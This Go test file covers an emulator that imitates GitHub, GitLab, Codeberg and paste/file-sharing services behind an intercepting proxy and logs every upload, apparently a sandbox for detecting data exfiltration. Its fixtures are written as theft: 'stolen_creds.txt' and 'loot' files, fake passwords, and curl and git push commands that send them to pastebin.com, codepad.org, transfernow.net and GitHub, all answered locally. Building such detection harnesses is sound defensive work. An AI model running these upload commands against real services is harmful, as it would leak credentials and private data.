package emulator

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func newTestEmulator(t *testing.T, cfg Config) *Emulator {
	t.Helper()
	ca, err := NewCA("test")
	require.NoError(t, err)
	if cfg.DataDir == "" {
		cfg.DataDir = t.TempDir()
	}
	e, err := New(cfg, ca)
	require.NoError(t, err)
	t.Cleanup(func() { assert.NoError(t, e.Close()) })
	return e
}

func randomBytes(t *testing.T, n int) []byte {
	b := make([]byte, n)
	_, err := rand.Read(b)
	require.NoError(t, err)
	return b
}

func sha(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

func TestHandlers(t *testing.T) {
	secret := []byte("AKIAFAKEFAKEFAKE\nsecret=not-a-real-secret\n")
	contents := func(content string) string {
		return `{"message":"backup","content":"` + content + `"}`
	}
	cases := []struct {
		name, host, method, path, body string
		token                          bool
		wantStatus                     int
		wantBody                       string
		wantFiles                      []File
	}{
		{"contents created", "api.github.com", "PUT", "/repos/o/r/contents/loot/creds.txt",
			contents(base64.StdEncoding.EncodeToString(secret)), true, 201, `"sha": "` + gitBlobSHA(secret), []File{NewFile("loot/creds.txt", secret)}},
		{"contents base64 wrapped over lines", "api.github.com", "PUT", "/repos/o/r/contents/wrapped.txt",
			contents(`QUtJQUZBS0VG\nQUtFRkFLRQo=`), true, 201, "", []File{NewFile("wrapped.txt", []byte("AKIAFAKEFAKEFAKE\n"))}},
		{"contents bad base64", "api.github.com", "PUT", "/repos/o/r/contents/x", contents("%%%not base64"), true, 422, "content is not valid Base64", nil},
		{"contents missing message", "api.github.com", "PUT", "/repos/o/r/contents/x", `{"content":"eA=="}`, true, 422, `\"message\" wasn't supplied`, nil},
		{"contents bad json", "api.github.com", "PUT", "/repos/o/r/contents/x", `{`, true, 400, "Problems parsing JSON", nil},
		{"contents without token", "api.github.com", "PUT", "/repos/o/r/contents/x", contents("eA=="), false, 401, "Requires authentication", nil},
		{"contents wrong method", "api.github.com", "DELETE", "/repos/o/r/contents/x", "", true, 404, `"message": "Not Found"`, nil},
		{"gist created", "api.github.com", "POST", "/gists", `{"public":false,"files":{"creds.txt":{"content":"pw=hunter2\n"}}}`, true, 201,
			`"html_url": "https://gist.github.com/`, []File{NewFile("creds.txt", []byte("pw=hunter2\n"))}},
		{"gist without files", "api.github.com", "POST", "/gists", `{"files":{}}`, true, 422, "missing_field", nil},
		{"gist empty content", "api.github.com", "POST", "/gists", `{"files":{"a":{"content":""}}}`, true, 422, "files.a.content", nil},
		{"gist without token", "api.github.com", "POST", "/gists", `{"files":{"a":{"content":"x"}}}`, false, 401, "Requires authentication", nil},
		{"user", "api.github.com", "GET", "/user", "", true, 200, `"login": "exfil-operator"`, nil},
		{"user without token", "api.github.com", "GET", "/user", "", false, 401, "", nil},
		{"create repo", "api.github.com", "POST", "/user/repos", `{"name":"loot","private":true}`, true, 201, `"clone_url": "https://github.com/exfil-operator/loot.git"`, nil},
		{"unknown api path", "api.github.com", "GET", "/nope", "", true, 404, "https://docs.github.com/rest", nil},
		{"github web unknown", "github.com", "GET", "/nope", "", false, 404, "Page not found", nil},
		{"gitlab api unknown", "gitlab.com", "GET", "/api/v4/nope", "", true, 404, `"error": "404 Not Found"`, nil},
		{"gitlab file", "api.gitlab.com", "POST", "/api/v4/projects/42/repository/files/a.txt",
			`{"branch":"main","commit_message":"m","encoding":"base64","content":"eA=="}`, true, 201, "", []File{NewFile("a.txt", []byte("x"))}},
		{"gitlab snippet", "gitlab.com", "POST", "/api/v4/snippets", `{"title":"t","files":[{"file_path":"s.txt","content":"y"}]}`, true, 201, "", []File{NewFile("s.txt", []byte("y"))}},
		{"bitbucket api unknown", "api.bitbucket.org", "GET", "/2.0/nope", "", true, 404, "Resource not found", nil},
		{"codeberg contents", "codeberg.org", "POST", "/api/v1/repos/o/r/contents/c.txt", `{"content":"eg==","message":"m"}`, true, 201, "", []File{NewFile("c.txt", []byte("z"))}},
		{"codeberg api unknown", "codeberg.org", "GET", "/api/v1/nope", "", true, 404, "api/swagger", nil},
		{"azure devops unknown", "dev.azure.com", "GET", "/org", "", false, 404, "Azure DevOps", nil},
	}
	e := newTestEmulator(t, Config{})
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			mark := len(e.Ledger().Entries())
			req := httptest.NewRequest(tc.method, "https://"+tc.host+tc.path, strings.NewReader(tc.body))
			if tc.token {
				req.Header.Set("Authorization", "token ghp_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE")
			}
			req.Header.Set("User-Agent", "test-agent/1")
			rec := httptest.NewRecorder()
			e.Handler().ServeHTTP(rec, req)
			assert.Equal(t, tc.wantStatus, rec.Code, rec.Body.String())
			assert.Contains(t, rec.Body.String(), tc.wantBody)

			entries := e.Ledger().Entries()[mark:]
			require.Len(t, entries, 1)
			got := entries[0]
			assert.Equal(t, tc.host, got.Host)
			assert.Equal(t, tc.method, got.Method)
			assert.Equal(t, tc.path, got.Path)
			assert.Equal(t, tc.wantStatus, got.Status)
			assert.Equal(t, int64(len(tc.body)), got.BytesReceived)
			assert.Equal(t, "test-agent/1", got.UserAgent)
			if tc.token {
				assert.Equal(t, "token", got.AuthScheme)
			}
			assert.ElementsMatch(t, tc.wantFiles, got.Files)
			raw, err := json.Marshal(got)
			require.NoError(t, err)
			assert.NotContains(t, string(raw), "ghp_FAKE", "the ledger must never hold the token")
		})
	}
}

func TestContentsReplaceNeedsSHA(t *testing.T) {
	e := newTestEmulator(t, Config{})
	put := func(body string) int {
		req := httptest.NewRequest("PUT", "https://api.github.com/repos/o/r/contents/f", strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer x")
		rec := httptest.NewRecorder()
		e.Handler().ServeHTTP(rec, req)
		return rec.Code
	}
	assert.Equal(t, 201, put(`{"message":"m","content":"eA=="}`))
	assert.Equal(t, 422, put(`{"message":"m","content":"eA=="}`), "replacing without sha")
	assert.Equal(t, 409, put(`{"message":"m","content":"eA==","sha":"0000"}`), "replacing with a wrong sha")
	assert.Equal(t, 200, put(`{"message":"m","content":"eQ==","sha":"`+gitBlobSHA([]byte("x"))+`"}`))
}

func TestBodyOverLimit(t *testing.T) {
	e := newTestEmulator(t, Config{MaxBody: 64})
	big := `{"message":"m","content":"` + strings.Repeat("QUFB", 100) + `"}`
	for _, chunked := range []bool{false, true} {
		req := httptest.NewRequest("PUT", "https://api.github.com/repos/o/r/contents/f", strings.NewReader(big))
		if chunked {
			req.ContentLength = -1 // the limit must hold without a declared length too
		}
		req.Header.Set("Authorization", "token x")
		rec := httptest.NewRecorder()
		e.Handler().ServeHTTP(rec, req)
		assert.Equal(t, http.StatusRequestEntityTooLarge, rec.Code, "chunked=%v", chunked)
	}
	entries := e.Ledger().Entries()
	require.Len(t, entries, 2)
	for _, en := range entries {
		assert.Equal(t, 413, en.Status)
		assert.Empty(t, en.Files)
	}
}

func TestConcurrentRequests(t *testing.T) {
	e := newTestEmulator(t, Config{})
	const n = 64
	done := make(chan int, n)
	for i := range n {
		go func() {
			body := `{"files":{"f` + strings.Repeat("x", i%5) + `.txt":{"content":"c"}}}`
			req := httptest.NewRequest("POST", "https://api.github.com/gists", strings.NewReader(body))
			req.Header.Set("Authorization", "token x")
			rec := httptest.NewRecorder()
			e.Handler().ServeHTTP(rec, req)
			done <- rec.Code
		}()
	}
	for range n {
		assert.Equal(t, 201, <-done)
	}
	entries := e.Ledger().Entries()
	require.Len(t, entries, n)
	for i, en := range entries {
		assert.Equal(t, int64(i+1), en.Seq, "sequence numbers are dense and ordered")
	}
}

// proxyFixture runs the emulator's CONNECT proxy on loopback and writes the
// CA for real clients.
type proxyFixture struct {
	e      *Emulator
	url    string
	caFile string
	env    []string
}

// settled returns the ledger once no request is being handled: an entry is
// recorded after its answer was written, so a client can have its answer
// a moment before the entry is there.
func settled(t *testing.T, e *Emulator) []Entry {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	require.NoError(t, e.Quiesce(ctx))
	return e.Ledger().Entries()
}

func startProxy(t *testing.T) *proxyFixture {
	t.Helper()
	e := newTestEmulator(t, Config{})
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- e.ServeProxy(ctx, l) }()
	t.Cleanup(func() {
		cancel()
		assert.NoError(t, <-done)
	})
	caFile := filepath.Join(t.TempDir(), "ca.pem")
	require.NoError(t, os.WriteFile(caFile, e.CA().PEM(), 0o600))
	url := "http://" + l.Addr().String()
	home := t.TempDir()
	env := []string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + home, "GIT_CONFIG_NOSYSTEM=1", "GIT_TERMINAL_PROMPT=0",
		"HTTPS_PROXY=" + url, "https_proxy=" + url, "HTTP_PROXY=" + url, "http_proxy=" + url, "ALL_PROXY=" + url,
		"SSL_CERT_FILE=" + caFile, "CURL_CA_BUNDLE=" + caFile, "GIT_SSL_CAINFO=" + caFile,
	}
	return &proxyFixture{e: e, url: url, caFile: caFile, env: env}
}

func (p *proxyFixture) run(t *testing.T, dir string, name string, args ...string) (string, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, args...)
	cmd.Dir = dir
	cmd.Env = p.env
	out, err := cmd.CombinedOutput()
	return string(out), err
}

func TestProxyCurlContentsPUT(t *testing.T) {
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl not installed")
	}
	p := startProxy(t)
	content := []byte("account,balance\nACME,1000000\n")
	body := `{"message":"x","content":"` + base64.StdEncoding.EncodeToString(content) + `"}`
	out, err := p.run(t, t.TempDir(), "curl", "-sS", "--fail-with-body", "-X", "PUT",
		"-H", "Authorization: token ghp_FAKE", "--data-binary", body,
		"-w", "\nSIZES %{size_request} %{size_upload} %{size_header} %{size_download}",
		"https://api.github.com/repos/o/r/contents/finance.csv")
	require.NoError(t, err, out)
	assert.Contains(t, out, gitBlobSHA(content))
	require.NoError(t, p.e.Quiesce(context.Background()))

	all := settled(t, p.e)
	entries := requests(all)
	require.Len(t, entries, 2, "the CONNECT and the PUT")
	require.Len(t, all, 3, "and the TLS connection's summary, once it closed")
	// curl's own counts of what it sent and received through the proxy
	// (the CONNECT and the PUT) are what the ledger records.
	var sent, upload, headers, download int64
	_, err = fmt.Sscanf(out[strings.LastIndex(out, "SIZES"):], "SIZES %d %d %d %d", &sent, &upload, &headers, &download)
	require.NoError(t, err)
	assert.Equal(t, sent, entries[0].RequestBytes+entries[1].RequestBytes, "request lines, headers and body")
	assert.Equal(t, upload, entries[1].BytesReceived)
	assert.Equal(t, headers+download, entries[0].ResponseBytes+entries[1].ResponseBytes, "status lines, headers and body")
	assert.Equal(t, download, entries[1].ResponseBodyBytes)
	conn := all[2]
	assert.Equal(t, KindTLS, conn.Kind)
	assert.Equal(t, entries[1].ClientPort, conn.ClientPort)
	assert.Equal(t, "api.github.com", conn.SNI)
	assert.NotEmpty(t, conn.TLSVersion)
	assert.Greater(t, conn.RequestBytes, entries[1].RequestBytes, "TLS records carry the handshake and framing too")
	assert.Greater(t, conn.ResponseBytes, entries[1].ResponseBytes)
	assert.False(t, conn.End.Before(conn.Time))
	assert.Equal(t, "CONNECT", entries[0].Method)
	assert.Equal(t, "api.github.com", entries[0].Host)
	put := entries[1]
	assert.Equal(t, "PUT", put.Method)
	assert.Equal(t, "api.github.com", put.SNI)
	assert.Equal(t, entries[0].ClientPort, put.ClientPort, "the tunnel's requests carry the client socket that opened it")
	assert.Equal(t, "127.0.0.1", put.ClientIP)
	require.Len(t, put.Files, 1)
	assert.Equal(t, sha(content), put.Files[0].SHA256)
}

func TestProxyRefusesOtherHosts(t *testing.T) {
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl not installed")
	}
	p := startProxy(t)
	for _, target := range []string{"https://example.com/", "http://example.com/", "https://api.github.com:8443/", "https://140.82.112.3/"} {
		out, err := p.run(t, t.TempDir(), "curl", "-sS", "--fail", "--max-time", "20", target)
		require.Error(t, err, "curl %s must fail: %s", target, out)
	}
	entries := requests(settled(t, p.e))
	require.Len(t, entries, 4)
	for _, en := range entries {
		assert.True(t, en.Refused, "%+v", en)
		assert.Equal(t, http.StatusForbidden, en.Status)
	}
	assert.Equal(t, "example.com", entries[0].Host)
	assert.Equal(t, "GET", entries[1].Method, "plain http through the proxy is refused too")
}

func TestProxyGitPush(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	p := startProxy(t)
	work := t.TempDir()
	files := map[string][]byte{
		"stolen_creds.txt":     []byte("admin:Winter2024!\n"),
		"finance/q3.csv":       []byte("q,rev\n3,42\n"),
		"binary.bin":           {0, 1, 2, 255, 254, '\n', 0},
		"with space/name.text": bytes.Repeat([]byte("y"), 100000),
		// Past git's 1 MiB post buffer (sent chunked) and the read-back's
		// buffers: hashed as it streams out of the repository.
		"big.bin": randomBytes(t, 3<<20+5),
	}
	for name, c := range files {
		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(work, name)), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(work, name), c, 0o600))
	}
	for _, args := range [][]string{
		{"init", "-q"}, {"add", "-A"},
		{"-c", "user.name=x", "-c", "user.email=x@example.invalid", "commit", "-qm", "loot"},
		{"push", "--force", "https://x-access-token:ghp_FAKE@github.com/exfil-operator/loot.git", "HEAD:refs/heads/main"},
	} {
		out, err := p.run(t, work, "git", args...)
		require.NoError(t, err, "git %v: %s", args, out)
	}
	var pushed []File
	var notes []string
	for _, en := range settled(t, p.e) {
		assert.False(t, en.Refused, "%+v", en)
		if strings.HasSuffix(en.Path, "/git-receive-pack") && en.Method == "POST" {
			// A chunked push is preceded by a probe that changes nothing.
			pushed = append(pushed, en.Files...)
			notes = append(notes, en.Note)
			assert.Equal(t, "basic", en.AuthScheme)
		}
	}
	assert.Contains(t, strings.Join(notes, "\n"), "push refs/heads/main")
	var want []File
	for name, c := range files {
		want = append(want, NewFile(name, c))
	}
	assert.ElementsMatch(t, want, pushed)

	// And the repository is a real one: it clones back.
	out, err := p.run(t, t.TempDir(), "git", "clone", "-q", "https://github.com/exfil-operator/loot.git", "back")
	require.NoError(t, err, out)
}

// serveTLS serves e's hosts over TLS on loopback until the test ends and
// returns the listener's address.
func serveTLS(tb testing.TB, e *Emulator) string {
	tb.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(tb, err)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- e.ServeTLS(ctx, l) }()
	tb.Cleanup(func() { cancel(); assert.NoError(tb, <-done) })
	return l.Addr().String()
}

// dialOnly dials addr whatever a client asks for, as the sandbox's
// routes take every served address to the emulator.
func dialOnly(addr string) func(context.Context, string, string) (net.Conn, error) {
	return func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "tcp", addr)
	}
}

func TestServeTLSUsesSNI(t *testing.T) {
	e := newTestEmulator(t, Config{})
	client := &http.Client{Transport: &http.Transport{
		TLSClientConfig: &tls.Config{RootCAs: e.CA().Pool()},
		DialContext:     dialOnly(serveTLS(t, e)),
	}}
	req, err := http.NewRequest("GET", "https://api.github.com/user", nil)
	require.NoError(t, err)
	req.Header.Set("Authorization", "token x")
	resp, err := client.Do(req)
	require.NoError(t, err)
	_ = resp.Body.Close()
	assert.Equal(t, 200, resp.StatusCode)
	client.CloseIdleConnections() // its connection's summary lands when it closes
	entries := requests(settled(t, e))
	require.Len(t, entries, 1)
	assert.Equal(t, "api.github.com", entries[0].Host)
	assert.Equal(t, "api.github.com", entries[0].SNI)
}

// TestTLSSessionsResume: a client that keeps its sessions resumes on a
// new connection one it had on another, and the ledger says so, with the
// host and SNI of the resumed connection (which chose no certificate).
func TestTLSSessionsResume(t *testing.T) {
	e := newTestEmulator(t, Config{})
	client := &http.Client{Transport: &http.Transport{
		TLSClientConfig:   &tls.Config{RootCAs: e.CA().Pool(), ClientSessionCache: tls.NewLRUClientSessionCache(4)},
		DisableKeepAlives: true,
		DialContext:       dialOnly(serveTLS(t, e)),
	}}
	var resumed []bool
	for range 2 {
		req, err := http.NewRequest("GET", "https://api.github.com/user", nil)
		require.NoError(t, err)
		req.Header.Set("Authorization", "token x")
		resp, err := client.Do(req)
		require.NoError(t, err)
		_, _ = io.Copy(io.Discard, resp.Body)
		_ = resp.Body.Close()
		assert.Equal(t, 200, resp.StatusCode)
		resumed = append(resumed, resp.TLS.DidResume)
	}
	assert.Equal(t, []bool{false, true}, resumed, "the second connection resumes the first's session")
	var conns []Entry
	for _, en := range settled(t, e) {
		if en.Kind == KindTLS {
			conns = append(conns, en)
		} else {
			assert.Equal(t, "api.github.com", en.Host)
			assert.Equal(t, "api.github.com", en.SNI)
		}
	}
	require.Len(t, conns, 2)
	// A connection's summary is recorded when it closes, in any order.
	slices.SortFunc(conns, func(a, b Entry) int { return a.Time.Compare(b.Time) })
	for i, c := range conns {
		assert.Equal(t, resumed[i], c.TLSResumed)
		assert.Equal(t, "api.github.com", c.SNI)
		assert.Equal(t, "api.github.com", c.Host)
	}
}

func TestCARoundTrip(t *testing.T) {
	ca, err := NewCA("rt")
	require.NoError(t, err)
	key, err := ca.KeyPEM()
	require.NoError(t, err)
	back, err := LoadCA(ca.PEM(), key)
	require.NoError(t, err)
	leaf, err := back.Leaf("api.github.com")
	require.NoError(t, err)
	cert, err := x509.ParseCertificate(leaf.Certificate[0])
	require.NoError(t, err)
	_, err = cert.Verify(x509.VerifyOptions{Roots: ca.Pool(), DNSName: "api.github.com"})
	assert.NoError(t, err, "a leaf from the loaded CA chains to the original")

	other, err := NewCA("other")
	require.NoError(t, err)
	_, err = LoadCA(other.PEM(), key)
	assert.ErrorContains(t, err, "does not belong")
	_, err = LoadCA([]byte("junk"), key)
	assert.Error(t, err)
}

func TestQuiesceWaitsForInflightRequests(t *testing.T) {
	var seen []int64
	inflight := make(chan struct{}, 1)
	ca, err := NewCA("q")
	require.NoError(t, err)
	e, err := New(Config{DataDir: t.TempDir(), OnInflight: func(n int64) {
		seen = append(seen, n)
		if n == 1 {
			inflight <- struct{}{}
		}
	}}, ca)
	require.NoError(t, err)
	defer e.Close()
	release := make(chan struct{})
	body := &blockingReader{release: release, data: []byte(`{"files":{"a":{"content":"b"}}}`)}
	req := httptest.NewRequest("POST", "https://api.github.com/gists", body)
	req.Header.Set("Authorization", "token x")
	done := make(chan struct{})
	go func() {
		e.Handler().ServeHTTP(httptest.NewRecorder(), req)
		close(done)
	}()
	<-inflight
	require.EqualValues(t, 1, e.inFlight())
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Millisecond)
	defer cancel()
	assert.Error(t, e.Quiesce(ctx), "a request is still being handled")
	close(release)
	<-done
	require.NoError(t, e.Quiesce(context.Background()))
	assert.Len(t, e.Ledger().Entries(), 1)
	assert.Equal(t, []int64{1, 0}, seen)
}

type blockingReader struct {
	release chan struct{}
	data    []byte
}

func (b *blockingReader) Read(p []byte) (int, error) {
	<-b.release
	if len(b.data) == 0 {
		return 0, io.EOF
	}
	n := copy(p, b.data)
	b.data = b.data[n:]
	return n, nil
}

// TestContentsAreCommitted checks that an API upload lands in the bare
// repository git serves, as a commit on the branch, one per upload.
func TestContentsAreCommitted(t *testing.T) {
	dataDir := t.TempDir()
	e := newTestEmulator(t, Config{DataDir: dataDir})
	put := func(host, path, body string) (int, string) {
		req := httptest.NewRequest("PUT", "https://"+host+path, strings.NewReader(body))
		req.Header.Set("Authorization", "token x")
		rec := httptest.NewRecorder()
		e.Handler().ServeHTTP(rec, req)
		return rec.Code, rec.Body.String()
	}
	first := []byte("account,balance\nACME,1\n")
	code, body := put("api.github.com", "/repos/o/loot/contents/q3/f.csv",
		`{"message":"one","content":"`+base64.StdEncoding.EncodeToString(first)+`"}`)
	require.Equal(t, 201, code, body)
	code, body = put("api.github.com", "/repos/o/loot/contents/other.txt", `{"message":"two","content":"eA=="}`)
	require.Equal(t, 201, code, body)

	repo := filepath.Join(dataDir, "github.com", "o", "loot.git")
	git := func(args ...string) string {
		out, err := exec.Command("git", append([]string{"-C", repo}, args...)...).CombinedOutput()
		require.NoError(t, err, string(out))
		return string(out)
	}
	assert.Equal(t, string(first), git("show", "main:q3/f.csv"))
	assert.Equal(t, "x", git("show", "main:other.txt"))
	assert.Equal(t, "two\none\n", git("log", "--format=%s", "main"), "one commit per upload, in order")
	assert.Contains(t, body, strings.TrimSpace(git("rev-parse", "main")), "the response names the commit")

	for _, bad := range []string{"/repos/o/loot/contents/../escape", "/repos/o/loot/contents/.git/config", "/repos/o/.git/contents/x"} {
		code, _ = put("api.github.com", bad, `{"message":"m","content":"eA=="}`)
		assert.NotEqual(t, 2, code/100, "%s must not be stored (got %d)", bad, code)
	}
	assert.NoFileExists(t, filepath.Join(dataDir, "github.com", "o", "escape"))
	assert.NotContains(t, git("ls-tree", "-r", "--name-only", "main"), ".git/config")

	code, body = put("codeberg.org", "/api/v1/repos/o/loot/contents/c.txt", `{"content":"eg=="}`)
	require.Equal(t, 201, code, body)
	cb := filepath.Join(dataDir, "codeberg.org", "o", "loot.git")
	out, err := exec.Command("git", "-C", cb, "show", "main:c.txt").CombinedOutput()
	require.NoError(t, err, string(out))
	assert.Equal(t, "z", string(out))
}

func TestPasteServicesAnswerLikeTheRealOnes(t *testing.T) {
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl not installed")
	}
	p := startProxy(t)
	dir := t.TempDir()
	secret := "account,balance\nACME,1000000\n"
	require.NoError(t, os.WriteFile(filepath.Join(dir, "loot.csv"), []byte(secret), 0o600))

	out, err := p.run(t, dir, "curl", "-sS", "--fail", "-d", "api_dev_key=FAKE", "-d", "api_option=paste",
		"--data-urlencode", "api_paste_code@loot.csv", "https://pastebin.com/api/api_post.php")
	require.NoError(t, err, out)
	require.Regexp(t, `^https://pastebin\.com/[A-Za-z0-9]{8}$`, out)
	raw, err := p.run(t, dir, "curl", "-sS", "--fail", "https://pastebin.com/raw/"+strings.TrimPrefix(out, "https://pastebin.com/"))
	require.NoError(t, err, raw)
	assert.Equal(t, secret, raw, "the paste reads back")

	out, err = p.run(t, dir, "curl", "-sS", "-d", "api_dev_key=FAKE", "-d", "api_option=list", "https://pastebin.com/api/api_post.php")
	require.NoError(t, err, out)
	assert.Equal(t, "Bad API request, invalid api_option", out, "Pastebin's own error text, with status 200")

	out, err = p.run(t, dir, "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code} %{redirect_url}",
		"--data-urlencode", "code@loot.csv", "https://codepad.org/")
	require.NoError(t, err, out)
	assert.Regexp(t, `^302 https://codepad\.org/[A-Za-z0-9]{8}$`, out)

	out, err = p.run(t, dir, "curl", "-sS", "--fail", "-H", "Content-Type: application/json",
		"-d", `{"files":[{"name":"loot.csv","size":29}]}`, "https://www.transfernow.net/api/transfers")
	require.NoError(t, err, out)
	var created struct {
		Files []struct{ UploadURL string } `json:"files"`
	}
	require.NoError(t, json.Unmarshal([]byte(out), &created))
	require.Len(t, created.Files, 1)
	out, err = p.run(t, dir, "curl", "-sS", "--fail", "-T", "loot.csv", created.Files[0].UploadURL)
	require.NoError(t, err, out)

	var stored []string
	for _, en := range p.e.Ledger().Entries() {
		for _, f := range en.Files {
			if f.SHA256 == sha([]byte(secret)) {
				stored = append(stored, en.Host)
			}
		}
	}
	assert.Equal(t, []string{"pastebin.com", "codepad.org", "www.transfernow.net"}, stored, "each upload is in the ledger with its hash")
}

// requests drops the TLS connection summaries, which land when a
// connection closes, whenever that is.
func requests(entries []Entry) []Entry {
	var out []Entry
	for _, en := range entries {
		if en.IsRequest() {
			out = append(out, en)
		}
	}
	return out
}
